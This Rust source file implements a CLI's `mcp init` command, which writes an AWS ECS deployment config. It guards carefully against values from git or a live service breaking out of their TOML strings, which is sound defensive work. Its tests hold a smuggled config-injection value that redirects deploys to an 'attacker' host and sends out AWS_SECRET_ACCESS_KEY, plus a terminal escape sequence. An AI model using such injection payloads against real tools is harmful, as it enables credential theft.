//! `mcp init`: write a commented mcp.toml.
//!
//! On a terminal it asks for each value with a sensible default (the git
//! remote's repository name, the Dockerfile it finds); elsewhere (CI, scripts)
//! it takes flags and defaults and never waits for an answer.
//!
//! Values come from outside `mcp` (a live task definition, the git remote, the
//! directory's name), so none is pasted into the file as text: a value is
//! encoded by `toml_edit`, so whatever it holds stays inside its string, and a
//! value shown in a `#` comment is refused when it holds a control character
//! (a newline would end the comment and let the value write tables of its own,
//! e.g. a `[stages.production]` that sends a token elsewhere). The written text
//! is parsed back and compared with the answers before it reaches the disk.

use std::fmt;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use serde::Serialize;

use crate::config::{FILE_NAME, default_name};
use crate::error::{ExitStatus, McpError};
use crate::ui::Printer;

#[derive(Debug, Clone, Default)]
pub struct InitOptions {
    /// Directory the project lives in.
    pub dir: PathBuf,
    /// Write here instead of `<dir>/mcp.toml`.
    pub path: Option<PathBuf>,
    pub name: Option<String>,
    pub region: Option<String>,
    pub cluster: Option<String>,
    pub service: Option<String>,
    pub repository: Option<String>,
    pub container: Option<String>,
    pub url: Option<String>,
    pub dockerfile: Option<PathBuf>,
    pub force: bool,
    /// `CLUSTER/SERVICE`: read the rest from a live service.
    pub from_service: Option<String>,
}

/// The values written into the file.
#[derive(Debug, Clone, Serialize)]
pub struct Answers {
    pub path: PathBuf,
    pub name: String,
    pub region: Option<String>,
    pub cluster: String,
    pub service: String,
    pub repository: String,
    pub container: Option<String>,
    pub url: Option<String>,
    pub dockerfile: String,
    /// The container's CloudWatch log group, when read from a live service.
    pub log_group: Option<String>,
}

impl fmt::Display for Answers {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "{}", self.path.display())
    }
}

/// The repository name of the `origin` remote, if this is a git checkout with one.
pub fn git_remote_name(dir: &Path) -> Option<String> {
    let output = std::process::Command::new("git")
        .args(["remote", "get-url", "origin"])
        .current_dir(dir)
        .stderr(std::process::Stdio::null())
        .output()
        .ok()?;
    if !output.status.success() {
        return None;
    }
    let url = String::from_utf8(output.stdout).ok()?;
    let last = url.trim().trim_end_matches('/').rsplit(['/', ':']).next()?;
    let name = last.trim_end_matches(".git");
    (!name.is_empty()).then(|| name.to_string())
}

/// The Dockerfile to use: the one given, else `Dockerfile` when it exists.
fn detect_dockerfile(dir: &Path) -> Option<String> {
    ["Dockerfile", "dockerfile", "Containerfile"]
        .into_iter()
        .find(|name| dir.join(name).is_file())
        .map(str::to_string)
}

fn ask(question: &str, default: &str) -> Result<String> {
    let term = console::Term::stderr();
    term.write_str(&format!("{question} [{default}]: "))
        .context("writing a prompt")?;
    let answer = term.read_line().context("reading an answer")?;
    let answer = answer.trim();
    Ok(if answer.is_empty() {
        default.to_string()
    } else {
        answer.to_string()
    })
}

fn ask_optional(question: &str, default: Option<&str>) -> Result<Option<String>> {
    let answer = ask(question, default.unwrap_or(""))?;
    Ok((!answer.is_empty()).then_some(answer))
}

pub async fn init(options: &InitOptions, printer: &Printer) -> Result<ExitStatus> {
    let path = options
        .path
        .as_ref()
        .map_or_else(|| options.dir.join(FILE_NAME), |p| options.dir.join(p));
    if path.exists() && !options.force {
        return Err(
            McpError::usage(format!("`{}` already exists", path.display()))
                .hint("pass --force to overwrite it, or edit it by hand")
                .into(),
        );
    }
    let dockerfile = match &options.dockerfile {
        Some(given) => given.display().to_string(),
        None => detect_dockerfile(&options.dir).unwrap_or_else(|| {
            printer.warn(format!(
                "no Dockerfile in `{}`; writing `Dockerfile` as its path",
                options.dir.display()
            ));
            "Dockerfile".to_string()
        }),
    };
    let default_project = options
        .name
        .clone()
        .or_else(|| git_remote_name(&options.dir))
        .unwrap_or_else(|| default_name(&options.dir));

    let live = match &options.from_service {
        Some(spec) => Some(read_service(options, spec).await?),
        None => None,
    };
    let prompt = printer.interactive() && !printer.yes && live.is_none();
    let mut answers = Answers {
        path: path.clone(),
        name: default_project,
        region: options.region.clone(),
        cluster: options
            .cluster
            .clone()
            .unwrap_or_else(|| "default".to_string()),
        service: String::new(),
        repository: String::new(),
        container: options.container.clone(),
        url: options.url.clone(),
        dockerfile,
        log_group: None,
    };
    if let Some(live) = live {
        printer.status(
            "Read",
            format!(
                "{}/{} ({})",
                live.cluster, live.service, live.task_definition
            ),
        );
        answers.region = options.region.clone().or(live.region);
        answers.cluster = live.cluster;
        if options.name.is_none() {
            answers.name = live.service.clone();
        }
        answers.container = options.container.clone().or(Some(live.container));
        answers.log_group = live.log_group;
        answers.service = options.service.clone().unwrap_or(live.service);
        answers.repository = options
            .repository
            .clone()
            .or(live.repository)
            .unwrap_or_default();
    }
    if prompt && options.name.is_none() {
        answers.name = ask("Project name", &answers.name)?;
    }
    if answers.service.is_empty() {
        answers.service = options
            .service
            .clone()
            .unwrap_or_else(|| answers.name.clone());
    }
    if answers.repository.is_empty() {
        answers.repository = options
            .repository
            .clone()
            .unwrap_or_else(|| answers.name.clone());
    }
    if prompt {
        if options.region.is_none() {
            answers.region = ask_optional("AWS region (empty: your AWS config)", None)?;
        }
        if options.cluster.is_none() {
            answers.cluster = ask("ECS cluster", &answers.cluster)?;
        }
        if options.service.is_none() {
            answers.service = ask("ECS service", &answers.service)?;
        }
        if options.repository.is_none() {
            answers.repository = ask("ECR repository", &answers.repository)?;
        }
        if options.url.is_none() {
            answers.url = ask_optional(
                "Public MCP URL, checked after each deploy (empty: none)",
                None,
            )?;
        }
    }

    let text = render(&answers)?;
    crate::files::write_no_follow(&path, text.as_bytes(), "mcp init")?;
    printer.status("Wrote", path.display());
    // Keep the local target's `.env` and the git history out of every image.
    let ignore_file = options.dir.join(crate::docker::context::DOCKERIGNORE);
    match crate::docker::context::ensure_dockerignore(&options.dir) {
        Ok(crate::docker::context::IgnoreChange::Created(lines)) => printer.status(
            "Wrote",
            format!("{} ({})", ignore_file.display(), lines.join(", ")),
        ),
        Ok(crate::docker::context::IgnoreChange::Appended(lines)) => printer.status(
            "Added",
            format!("{} to {}", lines.join(", "), ignore_file.display()),
        ),
        Ok(crate::docker::context::IgnoreChange::Unchanged) => {}
        Err(err) => printer.warn(format!(
            "could not make {} keep out .env and .git: {err:#}",
            ignore_file.display()
        )),
    }
    printer.data(&answers)?;
    Ok(ExitStatus::Success)
}

/// A TOML string value encoded by `toml_edit`: quotes, backslashes and
/// newlines in `value` stay inside the string.
fn quoted(value: &str) -> String {
    toml_edit::Value::from(value).to_string()
}

fn optional(key: &str, value: Option<&str>, example: &str) -> String {
    match value {
        Some(value) => format!("{key} = {}", quoted(value)),
        None => format!("# {key} = {}", quoted(example)),
    }
}

/// A value from outside that is shown in a `#` comment: a comment runs to the
/// end of its line, so a control character (a newline first of all) is refused.
fn for_comment<'a>(what: &str, value: &'a str) -> Result<&'a str> {
    if value.chars().any(char::is_control) {
        return Err(McpError::usage(format!(
            "{what} holds a control character: {}",
            quoted_for_error(value)
        ))
        .hint("mcp.toml was not written; fix the value at its source or pass it as a flag")
        .into());
    }
    Ok(value)
}

/// A hostile value, shown escaped (and cut) so it cannot write to the terminal.
fn quoted_for_error(value: &str) -> String {
    let shown: String = value.chars().take(120).collect();
    let more = if value.chars().count() > 120 {
        "…"
    } else {
        ""
    };
    format!("\"{}\"{more}", shown.escape_default())
}

/// The file's text: every key with a comment, optional ones commented out.
///
/// Errors when a value meant for a comment holds a control character, or when
/// the text would not read back as exactly these answers.
pub fn render(a: &Answers) -> Result<String> {
    let name_bare = for_comment("the project name", &a.name)?;
    let log_group = match &a.log_group {
        Some(group) => {
            let group = for_comment(
                "the awslogs-group option of the live task definition's container",
                group,
            )?;
            format!(
                "# logs: CloudWatch log group {} (from the task definition's awslogs options)\n",
                quoted(group)
            )
        }
        None => String::new(),
    };
    let text = format!(
        r#"# mcp.toml: how `mcp` builds, pushes and deploys this MCP server.
# Precedence: flag > MCP_* environment variable > [stages.<name>] > this file > default.
# Reference: docs/configuration.md in mcp's repository (every key).

name = {name}
{region}             # default: the AWS config chain (AWS_REGION, ~/.aws/config)
# profile = "prod"                # AWS named profile

[build]
context = "."                     # directory sent to the Docker engine (.dockerignore applies)
dockerfile = {dockerfile}
platform = "linux/amd64"          # what Fargate runs, also when you build on Apple silicon
# target = "runtime"              # build stage
# args = {{ PYTHON_VERSION = "3.11" }}
tag = "{{git_sha}}"                 # also {{timestamp}}, {{stage}}, {{name}}

[ecr]
repository = {repository}
create = false                    # create the repository when missing

[ecs]
cluster = {cluster}
service = {service}
{container}                # default: the only container, else the first essential one
{log_group}
[deploy]
timeout = "15m"
rollback = "auto"                 # auto: roll back a failed deploy; never: leave it as ECS left it
{url}
health_path = "/healthz"

[env]                             # plain variables for the container
# LOG_LEVEL = "INFO"

[secrets]                         # Secrets Manager / SSM ARNs, never values
# API_KEY = "arn:aws:secretsmanager:us-east-1:123456789012:secret:/prod/mcp/api-key"

# [stages.staging]                # overlays any of the above with --stage staging
# ecs = {{ cluster = "staging", service = {staging_service} }}
"#,
        name = quoted(&a.name),
        staging_service = quoted(&format!("{name_bare}-staging")),
        region = optional("region", a.region.as_deref(), "us-east-1"),
        dockerfile = quoted(&a.dockerfile),
        repository = quoted(&a.repository),
        cluster = quoted(&a.cluster),
        service = quoted(&a.service),
        container = optional("container", a.container.as_deref(), "mcp"),
        url = optional("url", a.url.as_deref(), "https://mcp.example.com/mcp"),
    );
    reads_back(a, &text)?;
    Ok(text)
}

/// Parse `text` with the strict schema and check it holds exactly the answers
/// and no table they did not ask for: the last line of defence against a value
/// that found a way out of its string.
fn reads_back(a: &Answers, text: &str) -> Result<()> {
    let file = crate::config::file::parse(&a.path, text)
        .context("the mcp.toml about to be written does not parse; nothing was written")?;
    let layer = &file.layer;
    let build = layer.build.as_ref();
    let ecs = layer.ecs.as_ref();
    let deploy = layer.deploy.as_ref();
    let same = layer.name.as_deref() == Some(a.name.as_str())
        && layer.region == a.region
        && layer.profile.is_none()
        && layer.target.is_none()
        && layer.stages.is_none()
        && layer.services.is_none()
        && layer.secrets_prefix.is_none()
        && layer.env.as_ref().is_none_or(|e| e.is_empty())
        && layer.secrets.as_ref().is_none_or(|s| s.is_empty())
        && build.and_then(|b| b.dockerfile.as_deref()) == Some(a.dockerfile.as_str())
        && build.is_some_and(|b| b.args.is_none() && b.target.is_none())
        && layer.ecr.as_ref().and_then(|e| e.repository.as_deref()) == Some(a.repository.as_str())
        && ecs.and_then(|e| e.cluster.as_deref()) == Some(a.cluster.as_str())
        && ecs.and_then(|e| e.service.as_deref()) == Some(a.service.as_str())
        && ecs.and_then(|e| e.container.as_deref()) == a.container.as_deref()
        && deploy.and_then(|d| d.url.as_deref()) == a.url.as_deref()
        && deploy.is_some_and(|d| d.auth_token_env.is_none() && d.allow_insecure_http.is_none());
    if !same {
        return Err(McpError::new(
            "the mcp.toml about to be written does not read back as the values given; nothing was written",
        )
        .hint("a value read from the live service, git or a flag changed the file's structure; check them for quotes or line breaks")
        .into());
    }
    Ok(())
}

/// What a live service says about itself.
struct LiveService {
    region: Option<String>,
    cluster: String,
    service: String,
    task_definition: String,
    container: String,
    repository: Option<String>,
    log_group: Option<String>,
}

/// Read `CLUSTER/SERVICE` from ECS: region, container, ECR repository, log group.
async fn read_service(options: &InitOptions, spec: &str) -> Result<LiveService> {
    use crate::aws::taskdef::short_name;
    let (cluster, service) = spec
        .split_once('/')
        .filter(|(c, s)| !c.is_empty() && !s.is_empty())
        .ok_or_else(|| {
            McpError::usage(format!(
                "--from-service takes CLUSTER/SERVICE, not `{spec}`"
            ))
            .hint("e.g. --from-service sales-prod/sales-prod-mcp-server-production")
        })?;
    let mut inputs = crate::config::Inputs {
        cwd: options.dir.clone(),
        ..Default::default()
    };
    if let Some(region) = &options.region {
        inputs.flags.push(crate::config::FlagValue {
            key: "region",
            flag: "--region",
            value: region.clone(),
            kind: crate::config::Kind::Str,
        });
    }
    let settings = crate::config::resolve(None, &inputs)?;
    let clients = crate::aws::Clients::new(&settings).await;
    let live = crate::aws::ecs::describe_service(&clients, cluster, service).await?;
    let arn = live.task_definition().unwrap_or_default().to_string();
    let described = clients
        .ecs
        .describe_task_definition()
        .task_definition(&arn)
        .send()
        .await
        .map_err(crate::aws::error)
        .with_context(|| format!("reading task definition `{}`", short_name(&arn)))?;
    let definition = described
        .task_definition()
        .context("DescribeTaskDefinition returned no task definition")?;
    let container = crate::aws::ecs::pick_container(
        definition.container_definitions(),
        options.container.as_deref(),
        definition.family().unwrap_or("?"),
    )?;
    let repository = container
        .image()
        .map(crate::release::ImageRef::parse)
        .filter(|r| r.ecr().is_some())
        .map(|r| r.repository);
    let log_group = container
        .log_configuration()
        .filter(|l| l.log_driver() == &aws_sdk_ecs::types::LogDriver::Awslogs)
        .and_then(|l| l.options())
        .and_then(|o| o.get("awslogs-group"))
        .cloned();
    // arn:aws:ecs:REGION:ACCOUNT:service/CLUSTER/SERVICE
    let region = live
        .service_arn()
        .and_then(|a| a.split(':').nth(3))
        .map(str::to_string)
        .or(clients.region().map(str::to_string));
    Ok(LiveService {
        region,
        cluster: cluster.to_string(),
        service: service.to_string(),
        task_definition: short_name(&arn).to_string(),
        container: container.name().unwrap_or_default().to_string(),
        repository,
        log_group,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Guards that what init writes is a valid mcp.toml (the template and the
    /// schema must not drift apart).
    #[test]
    fn rendered_file_parses_with_the_strict_schema() {
        let answers = Answers {
            path: "mcp.toml".into(),
            name: "quilt-mcp".into(),
            region: Some("us-east-1".into()),
            cluster: "sales-prod".into(),
            service: "sales-prod-mcp-server-production".into(),
            repository: "quilt-mcp-server".into(),
            container: None,
            url: Some("https://demo.example.com/mcp".into()),
            dockerfile: "Dockerfile".into(),
            log_group: Some("/ecs/quilt".into()),
        };
        let text = render(&answers).unwrap();
        let file = crate::config::file::parse(Path::new("mcp.toml"), &text).unwrap();
        let ecs = file.layer.ecs.unwrap();
        assert_eq!(ecs.cluster.as_deref(), Some("sales-prod"));
        assert_eq!(ecs.container, None);
        assert_eq!(
            file.layer.deploy.unwrap().url.as_deref(),
            Some("https://demo.example.com/mcp")
        );
    }

    fn answers() -> Answers {
        Answers {
            path: "mcp.toml".into(),
            name: "svc".into(),
            region: Some("us-east-1".into()),
            cluster: "c".into(),
            service: "svc".into(),
            repository: "svc".into(),
            container: Some("mcp".into()),
            url: None,
            dockerfile: "Dockerfile".into(),
            log_group: Some("/ecs/svc".into()),
        }
    }

    const INJECTED: &str = "\n[stages.production]\ndeploy = { url = \"http://attacker/mcp\", auth_token_env = \"AWS_SECRET_ACCESS_KEY\" }\n";

    /// Guards issue 16 item 1: a log group that breaks out of its comment is
    /// refused, and no text is produced.
    #[test]
    fn a_log_group_with_a_newline_is_refused() {
        let mut a = answers();
        a.log_group = Some(format!("/ecs/svc{INJECTED}"));
        let err = render(&a).unwrap_err();
        let mcp = err.downcast_ref::<McpError>().unwrap();
        assert!(
            mcp.message.starts_with("the awslogs-group option"),
            "{}",
            mcp.message
        );
        assert!(
            !mcp.message.contains('\n'),
            "shown escaped: {}",
            mcp.message
        );
    }

    /// Guards issue 16 item 1: values from outside stay inside their strings,
    /// whatever they hold (quotes, newlines, a fake table).
    #[test]
    fn hostile_values_stay_inside_their_strings() {
        let mut a = answers();
        a.log_group = None;
        a.container = Some(format!("mcp\"{INJECTED}"));
        a.repository = format!("repo'''\"\"\"{INJECTED}");
        a.region = Some(format!("us-east-1{INJECTED}"));
        let text = render(&a).unwrap();
        let file = crate::config::file::parse(Path::new("mcp.toml"), &text).unwrap();
        assert!(file.layer.stages.is_none(), "{text}");
        assert_eq!(file.layer.ecs.unwrap().container, a.container);
        assert_eq!(
            file.layer.ecr.unwrap().repository.as_ref(),
            Some(&a.repository)
        );
        assert_eq!(file.layer.region, a.region);
    }

    /// The project name (from git or the live service) also appears in a comment.
    #[test]
    fn a_name_with_a_control_character_is_refused() {
        let mut a = answers();
        a.name = format!("svc{INJECTED}");
        let err = render(&a).unwrap_err();
        assert!(
            err.to_string()
                .starts_with("the project name holds a control character"),
            "{err}"
        );
        a.name = "svc\u{1b}]0;owned\u{7}".into();
        assert!(render(&a).is_err());
    }
}
